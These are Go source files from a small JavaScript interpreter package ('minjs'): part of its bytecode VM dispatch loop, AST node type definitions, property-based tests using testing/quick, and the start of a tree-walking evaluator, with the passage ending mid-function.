		case opOrJump:
			if it.vs[sp-1].Truthy() {
				pc = in.a
			} else {
				sp--
			}

		case opNullishJump:
			if !it.vs[sp-1].IsNullish() {
				pc = in.a
			} else {
				sp--
			}

		case opBinary:
			r := it.vs[sp-1]
			l := it.vs[sp-2]
			sp--
			if l.Kind == KindNumber && r.Kind == KindNumber {
				var v Value
				ok := true
				switch in.a {
				case binAdd:
					v = Number(l.Num + r.Num)
				case binSub:
					v = Number(l.Num - r.Num)
				case binMul:
					v = Number(l.Num * r.Num)
				case binDiv:
					v = Number(l.Num / r.Num)
				case binLt:
					v = Boolean(l.Num < r.Num)
				case binGt:
					v = Boolean(l.Num > r.Num)
				case binLe:
					v = Boolean(l.Num <= r.Num)
				case binGe:
					v = Boolean(l.Num >= r.Num)
				case binStrictEq, binLooseEq:
					v = Boolean(l.Num == r.Num)
				case binStrictNe, binLooseNe:
					v = Boolean(l.Num != r.Num)
				default:
					ok = false
				}
				if ok {
					it.vs[sp-1] = v
					continue
				}
			}
			it.vsp = sp - 1 // instanceof may read a "prototype" accessor
			v, err := it.binop(in.a, l, r)
			if err != nil {
				rerr = err
				break run
			}
			it.vs[sp-1] = v

		case opUnary:
			v := it.vs[sp-1]
			switch in.a {
			case unNot:
				it.vs[sp-1] = Boolean(!v.Truthy())
			case unNeg:
				it.vs[sp-1] = Number(-v.ToNumber())
			case unPlus:
				it.vs[sp-1] = Number(v.ToNumber())
			case unBitNot:
				it.vs[sp-1] = Number(float64(^toInt32(v.ToNumber())))
			}

		case opTypeofName:
			it.steps++
			if it.steps > limit {
				rerr = &InterruptError{Reason: "step limit exceeded"}
				break run
			}
			it.vsp = sp
			// lookup failures (including interrupts raised by accessor
			// globals) yield "undefined", exactly like the tree-walker
			if v, err := it.lookupIdent(c.atoms[in.a], sc); err == nil {
				it.vs[sp] = String(v.TypeOf())
			} else {
				it.vs[sp] = String("undefined")
			}
			sp++

		case opTypeofVal:
			it.vs[sp-1] = String(it.vs[sp-1].TypeOf())

		case opPreIncDec:
			it.vs[sp-1] = Number(it.vs[sp-1].ToNumber() + float64(in.a))

		case opPostIncDec:
			n := it.vs[sp-1].ToNumber()
			it.vs[sp-1] = Number(n)
			it.vs[sp] = Number(n + float64(in.a))
			sp++

		case opGetMember:
			name := c.atoms[in.a]
			objV := it.vs[sp-1]
			if objV.Kind == KindObject && ics != nil {
				e := &ics[in.b]
				if e.prop != nil && e.recv == objV.Obj && e.recvVer == objV.Obj.ver {
					if e.proto == nil {
						if it.PropAccessHook != nil {
							it.PropAccessHook(objV.Obj, name)
						}
						it.vs[sp-1] = e.prop.Value
						continue
					}
					if objV.Obj.Proto == e.proto && e.protoVer == e.proto.ver {
						if it.PropAccessHook != nil {
							it.PropAccessHook(e.proto, name)
						}
						it.vs[sp-1] = e.prop.Value
						continue
					}
				}
			}
			it.vsp = sp
			v, owner, prop, err := it.getMember(objV, name)
			if err != nil {
				rerr = err
				break run
			}
			if prop != nil && ics != nil && objV.Kind == KindObject {
				o := objV.Obj
				if owner == o {
					ics[in.b] = icEntry{recv: o, recvVer: o.ver, prop: prop}
				} else if owner == o.Proto {
					ics[in.b] = icEntry{recv: o, recvVer: o.ver, proto: owner, protoVer: owner.ver, prop: prop}
				}
			}
			it.vs[sp-1] = v

		case opGetMemberC:
			kv := it.vs[sp-1]
			objV := it.vs[sp-2]
			sp -= 2
			if kv.Kind == KindNumber {
				f := kv.Num
				idx := int(f)
				if float64(idx) == f && idx >= 0 && !(f == 0 && math.Signbit(f)) {
					if objV.Kind == KindObject && objV.Obj.Class == "Array" {
						if idx < len(objV.Obj.Elems) {
							it.vs[sp] = objV.Obj.Elems[idx]
						} else {
							it.vs[sp] = Undefined()
						}
						sp++
						continue
					}
					if objV.Kind == KindString {
						if idx < len(objV.Str) {
							it.vs[sp] = String(objV.Str[idx : idx+1])
						} else {
							it.vs[sp] = Undefined()
						}
						sp++
						continue
					}
				}
			}
			it.vsp = sp
			v, _, _, err := it.getMember(objV, kv.ToString())
			if err != nil {
				rerr = err
				break run
			}
			it.vs[sp] = v
			sp++

		case opSetMember:
			objV := it.vs[sp-1]
			sp--
			val := it.vs[sp-1]
			name := c.atoms[in.a]
			if !objV.IsObject() {
				rerr = it.ThrowError("TypeError", "cannot set property %q on %s", name, objV.TypeOf())
				break run
			}
			it.vsp = sp
			if err := it.setMember(objV.Obj, name, val); err != nil {
				rerr = err
				break run
			}

		case opSetMemberC:
			kv := it.vs[sp-1]
			objV := it.vs[sp-2]
			sp -= 2
			val := it.vs[sp-1]
			if !objV.IsObject() {
				rerr = it.ThrowError("TypeError", "cannot set property %q on %s", kv.ToString(), objV.TypeOf())
				break run
			}
			if kv.Kind == KindNumber && objV.Obj.Class == "Array" {
				f := kv.Num
				idx := int(f)
				if float64(idx) == f && idx >= 0 && !(f == 0 && math.Signbit(f)) {
					o := objV.Obj
					for len(o.Elems) <= idx {
						o.Elems = append(o.Elems, Undefined())
					}
					o.Elems[idx] = val
					continue
				}
			}
			it.vsp = sp
			if err := it.setMember(objV.Obj, kv.ToString(), val); err != nil {
				rerr = err
				break run
			}

		case opDeleteMember:
			objV := it.vs[sp-1]
			if !objV.IsObject() {
				it.vs[sp-1] = Boolean(true)
			} else {
				it.vs[sp-1] = Boolean(objV.Obj.Delete(c.atoms[in.a]))
			}

		case opDeleteMemberC:
			kv := it.vs[sp-1]
			objV := it.vs[sp-2]
			sp--
			if !objV.IsObject() {
				it.vs[sp-1] = Boolean(true)
			} else {
				it.vs[sp-1] = Boolean(objV.Obj.Delete(kv.ToString()))
			}

		case opStoreName:
			val := it.vs[sp-1]
			name := c.atoms[in.a]
			stored := false
			for cur := sc; cur != nil; cur = cur.parent {
				if slot := cur.slot(name); slot != nil {
					*slot = val
					stored = true
					break
				}
				if cur.global != nil {
					it.vsp = sp
					if err := it.setMember(cur.global, name, val); err != nil {
						rerr = err
						break run
					}
					stored = true
					break
				}
			}
			if !stored {
				it.Global.Set(name, val)
			}

		case opMethod:
			name := c.atoms[in.a]
			objV := it.vs[sp-1]
			var fnV Value
			hit := false
			if objV.Kind == KindObject && ics != nil {
				e := &ics[in.b]
				if e.prop != nil && e.recv == objV.Obj && e.recvVer == objV.Obj.ver {
					if e.proto == nil {
						if it.PropAccessHook != nil {
							it.PropAccessHook(objV.Obj, name)
						}
						fnV = e.prop.Value
						hit = true
					} else if objV.Obj.Proto == e.proto && e.protoVer == e.proto.ver {
						if it.PropAccessHook != nil {
							it.PropAccessHook(e.proto, name)
						}
						fnV = e.prop.Value
						hit = true
					}
				}
			}
			if !hit {
				it.vsp = sp
				v, owner, prop, err := it.getMember(objV, name)
				if err != nil {
					rerr = err
					break run
				}
				if prop != nil && ics != nil && objV.Kind == KindObject {
					o := objV.Obj
					if owner == o {
						ics[in.b] = icEntry{recv: o, recvVer: o.ver, prop: prop}
					} else if owner == o.Proto {
						ics[in.b] = icEntry{recv: o, recvVer: o.ver, proto: owner, protoVer: owner.ver, prop: prop}
					}
				}
				fnV = v
			}
			if !fnV.IsFunction() {
				rerr = it.ThrowError("TypeError", "%s.%s is not a function", objV.TypeOf(), name)
				break run
			}
			it.vs[sp] = fnV
			sp++

		case opMethodC:
			kv := it.vs[sp-1]
			objV := it.vs[sp-2]
			key := kv.ToString()
			sp-- // receiver stays on the stack as `this`
			it.vsp = sp
			fnV, _, _, err := it.getMember(objV, key)
			if err != nil {
				rerr = err
				break run
			}
			if !fnV.IsFunction() {
				rerr = it.ThrowError("TypeError", "%s.%s is not a function", objV.TypeOf(), key)
				break run
			}
			it.vs[sp] = fnV
			sp++

		case opCheckFn:
			if !it.vs[sp-1].IsFunction() {
				name := "value"
				if in.a >= 0 {
					name = c.atoms[in.a]
				}
				rerr = it.ThrowError("TypeError", "%s is not a function", name)
				break run
			}

		case opCheckCtor:
			if !it.vs[sp-1].IsFunction() {
				rerr = it.ThrowError("TypeError", "not a constructor")
				break run
			}

		case opCall:
			n := int(in.a)
			var fnV, thisV Value
			var newSp int
			if in.b != 0 {
				fnV = it.vs[sp-1-n]
				thisV = it.vs[sp-2-n]
				newSp = sp - 2 - n
			} else {
				fnV = it.vs[sp-1-n]
				thisV = ObjectValue(it.Global)
				newSp = sp - 1 - n
			}
			args := it.vs[sp-n : sp]
			if fnV.Obj.fnd != nil && fnV.Obj.fnd.Native != nil {
				// natives may retain args (bind); script calls copy them
				// into the callee scope before the stack is reused
				args = append(make([]Value, 0, n), args...)
			}
			it.vsp = newSp
			v, err := it.CallFunction(fnV.Obj, thisV, args)
			if err != nil {
				rerr = err
				break run
			}
			sp = newSp
			it.vs[sp] = v
			sp++

		case opNew:
			n := int(in.a)
			cv := it.vs[sp-1-n]
			args := append(make([]Value, 0, n), it.vs[sp-n:sp]...)
			newSp := sp - 1 - n
			it.vsp = newSp
			v, err := it.Construct(cv.Obj, args)
			if err != nil {
				rerr = err
				break run
			}
			sp = newSp
			it.vs[sp] = v
			sp++

		case opReturn:
			sp--
			rv = it.vs[sp]
			rsig = sigReturn
			break run

		case opThrow:
			sp--
			rerr = &Throw{Value: it.vs[sp], Stack: it.CaptureStack()}
			break run

		case opSignal:
			rsig = byte(in.a)
			break run

		case opPushScope:
			if in.b != 0 {
				sc = it.getPooledScope(sc, in.a)
			} else {
				sc = NewScope(sc)
			}

		case opPopScope:
			p := sc.parent
			it.releaseScope(sc)
			sc = p

		case opUnwind:
			for i := int32(0); i < in.a; i++ {
				p := sc.parent
				it.releaseScope(sc)
				sc = p
			}

		case opTry:
			aux := &c.tries[in.b]
			it.vsp = sp
			v, sig, err := it.execTry(c, aux, sc, frame)
			if err != nil {
				rerr = err
				break run
			}
			switch sig {
			case sigBreak:
				if aux.breakPC >= 0 {
					pc = aux.breakPC
				} else {
					rsig = sigBreak
					break run
				}
			case sigContinue:
				if aux.contPC >= 0 {
					pc = aux.contPC
				} else {
					rsig = sigContinue
					break run
				}
			case sigReturn:
				rv = v
				rsig = sigReturn
				break run
			}

		case opForIn:
			sp--
			objV := it.vs[sp]
			it.vsp = sp
			aux := &c.forins[in.b]
			v, sig, err := it.execForIn(c, aux, objV, sc, frame)
			if err != nil {
				rerr = err
				break run
			}
			if sig == sigReturn {
				rv = v
				rsig = sigReturn
				break run
			}

		case opSwitch:
			sp--
			tag := it.vs[sp]
			it.vsp = sp
			aux := &c.switches[in.b]
			v, sig, err := it.execSwitch(c, aux, tag, sc, frame)
			if err != nil {
				rerr = err
				break run
			}
			switch sig {
			case sigContinue:
				if aux.contPC >= 0 {
					pc = aux.contPC
				} else {
					rsig = sigContinue
					break run
				}
			case sigReturn:
				rv = v
				rsig = sigReturn
				break run
			}

		case opInvalidAssign:
			rerr = it.ThrowError("ReferenceError", "invalid assignment target")
			break run
		}
	}

	it.vsp = base
	for s := sc; s != entrySc && s != nil; {
		p := s.parent
		it.releaseScope(s)
		s = p
	}
	return rv, rsig, rerr
}

// execValue runs an expression range and returns the single value it leaves.
func (it *Interp) execValue(c *Code, lo, hi int32, sc *Scope, frame *Frame) (Value, error) {
	at := it.vsp
	_, _, err := it.exec(c, lo, hi, sc, frame)
	if err != nil {
		return Undefined(), err
	}
	return it.vs[at], nil
}

// execTry mirrors the tree-walker's TryStmt evaluation: catch handles only
// *Throw, and any abnormal finally completion overrides the pending one.
func (it *Interp) execTry(c *Code, aux *tryAux, sc *Scope, frame *Frame) (Value, byte, error) {
	rv, rsig, rerr := it.exec(c, aux.body[0], aux.body[1], sc, frame)
	if thr, ok := rerr.(*Throw); ok && aux.catch[0] >= 0 {
		var inner *Scope
		if aux.catchPool {
			inner = it.getPooledScope(sc, aux.catchSize)
		} else {
			inner = NewScope(sc)
		}
		if aux.catchAtom >= 0 {
			inner.declare(c.atoms[aux.catchAtom], thr.Value)
		}
		rv, rsig, rerr = it.exec(c, aux.catch[0], aux.catch[1], inner, frame)
		it.releaseScope(inner)
	}
	if aux.finally[0] >= 0 {
		fv, fsig, ferr := it.exec(c, aux.finally[0], aux.finally[1], sc, frame)
		if ferr != nil || fsig != sigNone {
			rv, rsig, rerr = fv, fsig, ferr
		}
	}
	if rerr != nil {
		return Undefined(), sigNone, rerr
	}
	return rv, rsig, nil
}

// execForIn mirrors the tree-walker's ForInStmt evaluation, including its
// quirks: assignment to an existing global swallows setter errors, for-of
// array iteration snapshots the element slice header, and primitives other
// than strings iterate nothing.
func (it *Interp) execForIn(c *Code, aux *forInAux, objV Value, sc *Scope, frame *Frame) (Value, byte, error) {
	var inner *Scope
	if aux.pool {
		inner = it.getPooledScope(sc, aux.size)
	} else {
		inner = NewScope(sc)
	}
	name := c.atoms[aux.nameAtom]
	assign := func(v Value) {
		if aux.hasDecl {
			inner.declare(name, v)
		} else if slot := lookupSlot(inner, name); slot != nil {
			*slot = v
		} else if it.Global.Has(name) {
			if err := it.setMember(it.Global, name, v); err == nil {
				return
			}
		} else {
			inner.declare(name, v)
		}
	}
	// runBody returns stop=true on break (or return, with sig/rv set).
	runBody := func() (stop bool, rv Value, sig byte, err error) {
		bv, bsig, berr := it.exec(c, aux.body[0], aux.body[1], inner, frame)
		if berr != nil {
			return false, Undefined(), sigNone, berr
		}
		switch bsig {
		case sigBreak:
			return true, Undefined(), sigNone, nil
		case sigReturn:
			return true, bv, sigReturn, nil
		}
		return false, Undefined(), sigNone, nil
	}
	done := func(rv Value, sig byte, err error) (Value, byte, error) {
		it.releaseScope(inner)
		return rv, sig, err
	}
	if aux.of {
		switch {
		case objV.IsObject() && objV.Obj.Class == "Array":
			for _, el := range objV.Obj.Elems {
				assign(el)
				stop, rv, sig, err := runBody()
				if err != nil || sig == sigReturn {
					return done(rv, sig, err)
				}
				if stop {
					break
				}
			}
		case objV.Kind == KindString:
			for _, r := range objV.Str {
				assign(String(string(r)))
				stop, rv, sig, err := runBody()
				if err != nil || sig == sigReturn {
					return done(rv, sig, err)
				}
				if stop {
					break
				}
			}
		case objV.IsNullish():
			return done(Undefined(), sigNone, it.ThrowError("TypeError", "cannot iterate %s", objV.TypeOf()))
		}
		return done(Undefined(), sigNone, nil)
	}
	if !objV.IsObject() {
		return done(Undefined(), sigNone, nil)
	}
	for _, key := range objV.Obj.EnumerateAll() {
		assign(String(key))
		stop, rv, sig, err := runBody()
		if err != nil || sig == sigReturn {
			return done(rv, sig, err)
		}
		if stop {
			break
		}
	}
	return done(Undefined(), sigNone, nil)
}

// execSwitch mirrors the tree-walker's SwitchStmt evaluation: strict-equals
// matching in source order, fallthrough across case bodies with the default
// interleaved at its source position, break consumed, and — bug-compat —
// no hoisting of function declarations in case bodies.
func (it *Interp) execSwitch(c *Code, aux *switchAux, tag Value, sc *Scope, frame *Frame) (Value, byte, error) {
	inner := sc
	if !aux.elide {
		if aux.pool {
			inner = it.getPooledScope(sc, 4)
		} else {
			inner = NewScope(sc)
		}
	}
	done := func(rv Value, sig byte, err error) (Value, byte, error) {
		if !aux.elide {
			it.releaseScope(inner)
		}
		return rv, sig, err
	}
	matched := int32(-1)
	for i := range aux.tests {
		tv, err := it.execValue(c, aux.tests[i][0], aux.tests[i][1], inner, frame)
		if err != nil {
			return done(Undefined(), sigNone, err)
		}
		if StrictEquals(tag, tv) {
			matched = int32(i)
			break
		}
	}
	runList := func(r [2]int32) (Value, byte, error) {
		return it.exec(c, r[0], r[1], inner, frame)
	}
	runFrom := func(start, includeDefaultAt int32) (Value, byte, error) {
		for i := start; i < int32(len(aux.bodies)); i++ {
			if includeDefaultAt == i && aux.hasDef {
				if rv, sig, err := runList(aux.def); err != nil || sig != sigNone {
					return rv, sig, err
				}
			}
			if rv, sig, err := runList(aux.bodies[i]); err != nil || sig != sigNone {
				return rv, sig, err
			}
		}
		if includeDefaultAt >= int32(len(aux.bodies)) && aux.hasDef {
			if rv, sig, err := runList(aux.def); err != nil || sig != sigNone {
				return rv, sig, err
			}
		}
		return Undefined(), sigNone, nil
	}
	var rv Value
	var rsig byte
	var rerr error
	if matched >= 0 {
		rv, rsig, rerr = runFrom(matched, -1)
	} else if aux.hasDef {
		rv, rsig, rerr = runFrom(aux.defPos, aux.defPos)
	}
	if rerr != nil {
		return done(Undefined(), sigNone, rerr)
	}
	if rsig == sigBreak {
		rsig = sigNone
	}
	return done(rv, rsig, nil)
}
