package minjs

// Node is the interface implemented by all AST nodes.
type Node interface {
	nodeLine() int
}

type base struct{ Line int }

func (b base) nodeLine() int { return b.Line }

// ---- Statements ----

// Program is a parsed script: a list of top-level statements.
type Program struct {
	base
	Body   []Node
	Source string // full source text, used by Function.prototype.toString
	Name   string // script URL or name, used in stack traces

	// compiled is the bytecode produced by Compile; nil until compiled.
	// RunProgram executes it instead of tree-walking unless Interp.NoVM.
	compiled *Code
}

// VarDecl declares one or more variables ("var", "let" or "const").
type VarDecl struct {
	base
	Keyword string
	Names   []string
	Inits   []Node // nil entries mean no initialiser
}

// ExprStmt is an expression evaluated for its side effects.
type ExprStmt struct {
	base
	X Node
}

// IfStmt is if/else.
type IfStmt struct {
	base
	Cond Node
	Then Node
	Else Node // nil when absent
}

// WhileStmt is a while loop.
type WhileStmt struct {
	base
	Cond Node
	Body Node
}

// DoWhileStmt is a do { } while ( ) loop.
type DoWhileStmt struct {
	base
	Cond Node
	Body Node
}

// ForStmt is the classic three-clause for loop; any clause may be nil.
type ForStmt struct {
	base
	Init Node // VarDecl or ExprStmt or nil
	Cond Node
	Post Node
	Body Node
}

// ForInStmt is for (x in obj) or for (x of arr).
type ForInStmt struct {
	base
	Decl string // "var", "let", "const" or "" when assigning to an existing binding
	Name string
	Of   bool // true for for…of
	Obj  Node
	Body Node
}

// ReturnStmt returns from the enclosing function.
type ReturnStmt struct {
	base
	X Node // nil for bare return
}

// BreakStmt breaks the innermost loop or switch.
type BreakStmt struct{ base }

// ContinueStmt continues the innermost loop.
type ContinueStmt struct{ base }

// BlockStmt is a brace-delimited statement list. NeedsScope is precomputed
// at parse time: blocks without direct declarations run in the enclosing
// scope (var semantics make this observationally equivalent, and it avoids
// an allocation per block execution).
type BlockStmt struct {
	base
	Body       []Node
	NeedsScope bool
}

// ThrowStmt throws a value.
type ThrowStmt struct {
	base
	X Node
}

// TryStmt is try/catch/finally; Catch or Finally may be nil (not both).
type TryStmt struct {
	base
	Body      *BlockStmt
	CatchName string
	Catch     *BlockStmt
	Finally   *BlockStmt
}

// FuncDecl is a named function declaration (hoisted).
type FuncDecl struct {
	base
	Fn *FuncLit
}

// SwitchStmt is switch with cases evaluated strictly (===).
type SwitchStmt struct {
	base
	Tag     Node
	Cases   []SwitchCase
	Default []Node // nil when absent; -1-style marker via HasDefault
	HasDef  bool
	DefPos  int // index in execution order where default sits
}

// SwitchCase is one case clause.
type SwitchCase struct {
	Test Node
	Body []Node
}

// ---- Expressions ----

// Ident is a variable reference.
type Ident struct {
	base
	Name string
}

// Literal is a constant: number, string, bool, null or undefined.
type Literal struct {
	base
	Val Value
}

// ArrayLit is [a, b, c].
type ArrayLit struct {
	base
	Elems []Node
}

// ObjectLit is {k: v, ...}. Keys are literal strings (identifiers, string or
// number literals); computed keys use ComputedKeys entries instead.
type ObjectLit struct {
	base
	Keys []string
	Vals []Node
}

// FuncLit is a function expression, declaration body, or arrow function.
type FuncLit struct {
	base
	Name    string // empty for anonymous
	Params  []string
	Body    []Node
	Arrow   bool   // arrow functions capture `this` lexically
	SrcText string // exact source slice, returned by toString
	Script  string // script name for stack traces
	// UsesArguments is precomputed at parse time; the arguments array is
	// only materialised for functions that reference it.
	UsesArguments bool

	// compiled is set by Compile on every function literal of a compiled
	// program; CallFunction dispatches to the bytecode VM when present.
	compiled *Code
}

// usesArguments reports whether a subtree references the `arguments`
// binding, without descending into nested non-arrow functions (which bind
// their own).
func usesArguments(n Node) bool {
	switch x := n.(type) {
	case nil:
		return false
	case *Ident:
		return x.Name == "arguments"
	case *FuncLit:
		if !x.Arrow {
			return false
		}
		for _, s := range x.Body {
			if usesArguments(s) {
				return true
			}
		}
		return false
	case *VarDecl:
		for _, init := range x.Inits {
			if usesArguments(init) {
				return true
			}
		}
	case *ExprStmt:
		return usesArguments(x.X)
	case *IfStmt:
		return usesArguments(x.Cond) || usesArguments(x.Then) || usesArguments(x.Else)
	case *WhileStmt:
		return usesArguments(x.Cond) || usesArguments(x.Body)
	case *DoWhileStmt:
		return usesArguments(x.Cond) || usesArguments(x.Body)
	case *ForStmt:
		return usesArguments(x.Init) || usesArguments(x.Cond) || usesArguments(x.Post) || usesArguments(x.Body)
	case *ForInStmt:
		return usesArguments(x.Obj) || usesArguments(x.Body)
	case *ReturnStmt:
		return usesArguments(x.X)
	case *BlockStmt:
		for _, s := range x.Body {
			if usesArguments(s) {
				return true
			}
		}
	case *ThrowStmt:
		return usesArguments(x.X)
	case *TryStmt:
		if usesArguments(x.Body) {
			return true
		}
		if x.Catch != nil && usesArguments(x.Catch) {
			return true
		}
		if x.Finally != nil && usesArguments(x.Finally) {
			return true
		}
	case *SwitchStmt:
		if usesArguments(x.Tag) {
			return true
		}
		for _, c := range x.Cases {
			if usesArguments(c.Test) {
				return true
			}
			for _, s := range c.Body {
				if usesArguments(s) {
					return true
				}
			}
		}
		for _, s := range x.Default {
			if usesArguments(s) {
				return true
			}
		}
	case *FuncDecl:
		return false
	case *UnaryExpr:
		return usesArguments(x.X)
	case *PostfixExpr:
		return usesArguments(x.X)
	case *BinaryExpr:
		return usesArguments(x.L) || usesArguments(x.R)
	case *LogicalExpr:
		return usesArguments(x.L) || usesArguments(x.R)
	case *CondExpr:
		return usesArguments(x.Cond) || usesArguments(x.Then) || usesArguments(x.Else)
	case *AssignExpr:
		return usesArguments(x.Target) || usesArguments(x.Val)
	case *MemberExpr:
		return usesArguments(x.Obj) || usesArguments(x.Index)
	case *CallExpr:
		if usesArguments(x.Fn) {
			return true
		}
		for _, a := range x.Args {
			if usesArguments(a) {
				return true
			}
		}
	case *NewExpr:
		if usesArguments(x.Ctor) {
			return true
		}
		for _, a := range x.Args {
			if usesArguments(a) {
				return true
			}
		}
	case *ArrayLit:
		for _, e := range x.Elems {
			if usesArguments(e) {
				return true
			}
		}
	case *ObjectLit:
		for _, v := range x.Vals {
			if usesArguments(v) {
				return true
			}
		}
	}
	return false
}

// UnaryExpr is a prefix operator: ! - + typeof delete ~ ++ --.
type UnaryExpr struct {
	base
	Op string
	X  Node
}

// PostfixExpr is x++ or x--.
type PostfixExpr struct {
	base
	Op string
	X  Node
}

// BinaryExpr is a binary operator, including instanceof and in.
type BinaryExpr struct {
	base
	Op   string
	L, R Node
}

// LogicalExpr is && or || with short-circuit evaluation.
type LogicalExpr struct {
	base
	Op   string
	L, R Node
}

// CondExpr is cond ? a : b.
type CondExpr struct {
	base
	Cond, Then, Else Node
}

// AssignExpr is =, +=, -=, *=, /=, %= applied to an Ident or MemberExpr.
type AssignExpr struct {
	base
	Op     string
	Target Node
	Val    Node
}

// MemberExpr is obj.name or obj[expr].
type MemberExpr struct {
	base
	Obj      Node
	Name     string // when not computed
	Computed bool
	Index    Node // when computed
}

// CallExpr is fn(args) or obj.method(args).
type CallExpr struct {
	base
	Fn   Node
	Args []Node
}

// NewExpr is new Ctor(args).
type NewExpr struct {
	base
	Ctor Node
	Args []Node
}

// ThisExpr is `this`.
type ThisExpr struct{ base }
