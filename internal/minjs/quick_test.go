package minjs

import (
	"fmt"
	"math"
	"strings"
	"testing"
	"testing/quick"
)

// identFrom derives a valid identifier from arbitrary fuzz input.
func identFrom(raw string, fallback string) string {
	var b strings.Builder
	for i := 0; i < len(raw) && b.Len() < 12; i++ {
		c := raw[i]
		if b.Len() == 0 && isIdentStart(c) {
			b.WriteByte(c)
		} else if b.Len() > 0 && isIdentPart(c) {
			b.WriteByte(c)
		}
	}
	s := b.String()
	if s == "" || keywords[s] {
		return fallback
	}
	return s
}

// Property: any string literal round-trips through the lexer via %q-style
// escaping — what the parser decodes equals the original.
func TestQuickStringLiteralRoundTrip(t *testing.T) {
	f := func(s string) bool {
		if !isPlainASCII(s) {
			return true // lexer stores bytes; restrict to ASCII payloads
		}
		src := "var s = " + quoteJS(s) + "; s"
		v, err := New().RunScript(src, "q.js")
		if err != nil {
			t.Logf("src=%q err=%v", src, err)
			return false
		}
		return v.Kind == KindString && v.Str == s
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func isPlainASCII(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] >= 0x80 {
			return false
		}
	}
	return true
}

// quoteJS escapes s as a double-quoted JS string literal.
func quoteJS(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c == '"' || c == '\\':
			b.WriteByte('\\')
			b.WriteByte(c)
		case c == '\n':
			b.WriteString("\\n")
		case c == '\r':
			b.WriteString("\\r")
		case c < 0x20 || c == 0x7f:
			fmt.Fprintf(&b, "\\x%02x", c)
		default:
			b.WriteByte(c)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// Property: integer arithmetic matches Go float64 arithmetic.
func TestQuickArithmeticMatchesGo(t *testing.T) {
	f := func(a, b int16) bool {
		src := fmt.Sprintf("(%d) + (%d) * 2 - (%d)", a, b, a)
		v, err := New().RunScript(src, "q.js")
		if err != nil {
			return false
		}
		want := float64(a) + float64(b)*2 - float64(a)
		return v.Kind == KindNumber && v.Num == want
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

// Property: property set-then-get returns the stored value for any valid key,
// and delete removes exactly that key.
func TestQuickObjectSetGetDelete(t *testing.T) {
	f := func(rawKey string, val int32) bool {
		key := identFrom(rawKey, "k")
		it := New()
		o := it.NewObjectP()
		o.Set(key, Int(int(val)))
		got, err := it.GetMember(ObjectValue(o), key)
		if err != nil || got.Num != float64(val) {
			return false
		}
		if !o.HasOwn(key) {
			return false
		}
		o.Delete(key)
		return !o.HasOwn(key) && len(o.OwnKeys(false)) == 0
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

// Property: prototype-chain lookup finds a property defined at any depth,
// and FindProperty returns the owning object.
func TestQuickPrototypeChainLookup(t *testing.T) {
	f := func(depth uint8, val int32) bool {
		d := int(depth%10) + 1
		it := New()
		rootObj := it.NewObjectP()
		rootObj.Set("needle", Int(int(val)))
		cur := rootObj
		for i := 0; i < d; i++ {
			cur = NewObject(cur)
		}
		owner, prop := cur.FindProperty("needle")
		if owner != rootObj || prop == nil || prop.Value.Num != float64(val) {
			return false
		}
		v, err := it.GetMember(ObjectValue(cur), "needle")
		return err == nil && v.Num == float64(val)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

// Property: for…in enumeration order equals insertion order for own
// enumerable properties.
func TestQuickEnumerationOrder(t *testing.T) {
	f := func(n uint8) bool {
		count := int(n%20) + 1
		it := New()
		o := it.NewObjectP()
		var want []string
		for i := 0; i < count; i++ {
			k := fmt.Sprintf("k%d", i)
			o.Set(k, Int(i))
			want = append(want, k)
		}
		got := o.OwnKeys(true)
		if len(got) != len(want) {
			return false
		}
		for i := range got {
			if got[i] != want[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}

// Property: StrictEquals is reflexive for non-NaN values and symmetric.
func TestQuickStrictEqualsProperties(t *testing.T) {
	mk := func(tag uint8, n float64, s string) Value {
		switch tag % 5 {
		case 0:
			return Undefined()
		case 1:
			return Null()
		case 2:
			return Boolean(n > 0)
		case 3:
			return Number(n)
		default:
			return String(s)
		}
	}
	f := func(t1, t2 uint8, n1, n2 float64, s1, s2 string) bool {
		a, b := mk(t1, n1, s1), mk(t2, n2, s2)
		// symmetry
		if StrictEquals(a, b) != StrictEquals(b, a) {
			return false
		}
		// reflexivity (except NaN)
		if a.Kind == KindNumber && math.IsNaN(a.Num) {
			return !StrictEquals(a, a)
		}
		return StrictEquals(a, a)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

// Property: JSON stringify→parse round-trips flat string maps.
func TestQuickJSONRoundTrip(t *testing.T) {
	f := func(vals []int32) bool {
		it := New()
		o := it.NewObjectP()
		for i, v := range vals {
			if i >= 8 {
				break
			}
			o.Set(fmt.Sprintf("f%d", i), Int(int(v)))
		}
		s, err := jsonStringify(ObjectValue(o), map[*Object]bool{})
		if err != nil {
			return false
		}
		back, err := jsonParse(it, s)
		if err != nil || !back.IsObject() {
			return false
		}
		for i, v := range vals {
			if i >= 8 {
				break
			}
			got, _ := it.GetMember(back, fmt.Sprintf("f%d", i))
			if got.Num != float64(v) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

// Property: a getter installed over any data property preserves reads
// (the wrap-without-behaviour-change invariant the instrumentation needs).
func TestQuickAccessorWrapPreservesReads(t *testing.T) {
	f := func(rawKey string, val int32) bool {
		key := identFrom(rawKey, "p")
		it := New()
		o := it.NewObjectP()
		o.Set(key, Int(int(val)))
		orig := o.GetOwn(key).Value
		getter := it.NewNative("get "+key, func(it *Interp, this Value, args []Value) (Value, error) {
			return orig, nil
		})
		o.DefineAccessor(key, getter, nil, true)
		v, err := it.GetMember(ObjectValue(o), key)
		return err == nil && StrictEquals(v, Int(int(val)))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}
