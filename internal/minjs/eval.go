package minjs

import (
	"math"
)

// evalStmt evaluates one statement. Non-normal completions surface as errors
// (errBreak, errContinue, *returnSignal, *Throw, *InterruptError).
func (it *Interp) evalStmt(n Node, sc *Scope, frame *Frame) (Value, error) {
